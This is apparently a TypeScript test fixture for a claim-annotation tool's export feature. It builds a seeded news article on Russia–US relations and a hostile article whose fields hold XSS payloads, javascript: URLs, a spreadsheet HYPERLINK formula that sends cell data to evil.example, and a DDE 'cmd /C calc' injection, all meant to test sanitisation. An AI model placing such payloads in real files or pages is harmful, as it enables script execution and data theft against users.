// A realistic export input: the seed article coded with the analyst's gold
// claims (plus a nested, an overlapping and a two-paragraph claim), and a
// hostile article whose metadata and text try HTML and formula injection.
import { readFileSync } from 'node:fs'
import path from 'node:path'
import { addClaimMark, bodyFromParagraphs, findQuote, plainText } from '../../../src/shared/body'
import { Actor, Article, Event, type Body, type Kind } from '../../../src/shared/domain'
import type { ExportInput } from '../../../src/main/services/export'

const CORPUS = path.resolve(__dirname, '../../../../shared/corpus')
export const SEED_TEXT = readFileSync(path.join(CORPUS, 'seed/bad-to-worse.txt'), 'utf8')

type GoldClaim = { quote: string; kind: Kind; speakers: string[]; targets: string[]; event: string }
type Gold = {
  actors: { name: string; type: string; aliases: string[]; memberOf?: string }[]
  events: { name: string; date: string }[]
  claims: GoldClaim[]
}
export const GOLD: Gold = JSON.parse(readFileSync(path.join(CORPUS, 'gold/bad-to-worse.claims.json'), 'utf8'))

export const GENERATED_AT = '2026-11-29T14:03:00Z'
export const slug = (name: string): string => name.toLowerCase().replace(/[^a-z0-9]+/g, '-').replace(/^-|-$/g, '')
export const goldClaimId = (index: number): string => `gold-${String(index + 1).padStart(2, '0')}`

/** Claims added to the gold ones to exercise the renderer; quotes are exact
 * substrings of the seed text (`to` is where the quote ends). */
export const EXTRA_CLAIMS = {
  /** Contains gold claim 9 ("the outgoing administration was trying to …"). */
  nestedOuter: { from: 'Ryabkov said the outgoing administration', to: '“slam the door loudly” on Moscow', kind: 'assertion' as Kind },
  /** Crosses the end of both claims above. */
  overlapping: { from: 'on Moscow, with the trend', to: 'moves into the White House', kind: 'assertion' as Kind },
  /** From the second-last paragraph to the end of the last one. */
  twoParagraphs: { from: 'Trump has downplayed', to: 'denied any role in the hacking.', kind: 'denial' as Kind },
}

export const HOSTILE = {
  title: '<script>alert(1)</script> Leaked memo',
  outlet: '"><img src=x onerror=alert(1)>',
  url: 'javascript:alert(1)//https://evil.example/x.js',
  paragraphs: [
    'Officials said <script>alert(1)</script> was "harmless" & fine.',
    '=HYPERLINK("https://evil.example/?q="&A1,"open") appeared in the leak, as did "><img src=x onerror=alert(1)> markup.',
  ],
  formulaQuote: '=HYPERLINK("https://evil.example/?q="&A1,"open")',
  actorName: '<img src=x onerror=alert(2)>',
  rogueId: 'rogue"><b>bold</b>',
  rogueKind: '"><script>alert(3)</script>',
}

function claim(fields: Partial<Article['claims'][number]> & { id: string; kind: Kind; start: number; end: number }, body: Body) {
  return { speakers: [], targets: [], eventId: null, cue: '', note: '', tags: [], quote: plainText(body).slice(fields.start, fields.end), ...fields }
}

function seedArticle(): Article {
  let body = bodyFromParagraphs(SEED_TEXT.split(/\n\s*\n/))
  const actorIds = (names: string[]) => names.map(slug)
  const claims = GOLD.claims.map((gold, i) => {
    const at = findQuote(body, gold.quote)
    if (!at) throw new Error(`gold quote not found: ${gold.quote}`)
    return { gold, id: goldClaimId(i), ...at }
  })
  const placed = claims.map(({ gold, id, start, end }) => ({
    id,
    kind: gold.kind,
    start,
    end,
    speakers: actorIds(gold.speakers),
    targets: actorIds(gold.targets),
    eventId: slug(gold.event),
  }))
  for (const [id, extra] of Object.entries(EXTRA_CLAIMS)) {
    const start = findQuote(body, extra.from)!.start
    const end = findQuote(body, extra.to, start)!.end
    placed.push({ id, kind: extra.kind, start, end, speakers: [slug('Sergei Ryabkov')], targets: [], eventId: slug(GOLD.events[1].name) })
  }
  for (const c of placed) body = addClaimMark(body, c.start, c.end, c.id, c.kind)
  const extras = {
    nestedOuter: { cue: 'said', tags: ['framing', 'sanctions, 2020'] },
    twoParagraphs: { note: 'Two denials, one per paragraph.', speakers: [slug('Donald Trump'), slug('Kremlin')] },
  } as Record<string, object>
  return Article.parse({
    id: 'bad-to-worse',
    title: 'Russia sees relations with US going ‘from bad to worse’',
    outlet: 'American Military News',
    author: 'Radio Free Europe/Radio Liberty',
    publishedAt: '2020-12-24T10:12:00-05:00',
    url: 'https://americanmilitarynews.com/2020/12/russia-sees-relations-with-us-going-from-bad-to-worse/',
    language: 'en',
    provenance: { format: 'txt', fileName: 'bad-to-worse.txt', importedAt: '2026-11-28T09:00:00Z' },
    body,
    claims: placed.map((c) => claim({ ...c, ...extras[c.id] }, body)),
  })
}

function hostileArticle(): Article {
  let body = bodyFromParagraphs(HOSTILE.paragraphs)
  // A link mark from the source page must never become a link in the report.
  body.content[0].content![0].marks = [{ type: 'link', attrs: { href: 'javascript:alert(4)' } }]
  const scriptAt = findQuote(body, '<script>alert(1)</script> was "harmless"')!
  const formulaAt = findQuote(body, HOSTILE.formulaQuote)!
  const imgAt = findQuote(body, '"><img src=x onerror=alert(1)>')!
  const markupAt = findQuote(body, 'markup')!
  body = addClaimMark(body, scriptAt.start, scriptAt.end, 'h-script', 'denial')
  body = addClaimMark(body, formulaAt.start, formulaAt.end, 'h-formula', 'attribution')
  body = addClaimMark(body, imgAt.start, imgAt.end, 'h-img', 'assertion')
  // A mark with no claim record and a forged kind, as a tampered file could hold.
  body = addClaimMark(body, markupAt.start, markupAt.end, HOSTILE.rogueId, HOSTILE.rogueKind as Kind)
  return Article.parse({
    id: 'hostile',
    title: HOSTILE.title,
    outlet: HOSTILE.outlet,
    author: '=HYPERLINK("https://evil.example","x")',
    publishedAt: '2020-12-01',
    url: HOSTILE.url,
    provenance: { format: 'html', importedAt: '2026-11-28T09:00:00Z' },
    body,
    claims: [
      claim({ id: 'h-script', kind: 'denial', ...scriptAt, speakers: ['evil'], note: '@SUM(1+1)' }, body),
      claim({ id: 'h-formula', kind: 'attribution', ...formulaAt, targets: ['evil'], note: '+cmd|\' /C calc\'!A0', cue: '-2+3', tags: ['\tTabbed', '=1+1'] }, body),
      claim({ id: 'h-img', kind: 'assertion', ...imgAt, note: '\rreturn' }, body),
    ],
  })
}

export function buildFixture(): ExportInput {
  const actors = GOLD.actors.map((a) =>
    Actor.parse({ id: slug(a.name), name: a.name, type: a.type, aliases: a.aliases, memberOf: a.memberOf ? slug(a.memberOf) : null }),
  )
  actors.push(Actor.parse({ id: 'evil', name: HOSTILE.actorName, description: '<script>alert(5)</script>' }))
  const events = GOLD.events.map((e) => Event.parse({ id: slug(e.name), name: e.name, date: e.date }))
  // The hostile article is listed second but dated first: exports must sort.
  return { articles: [seedArticle(), hostileArticle()], actors, events, generatedAt: GENERATED_AT }
}
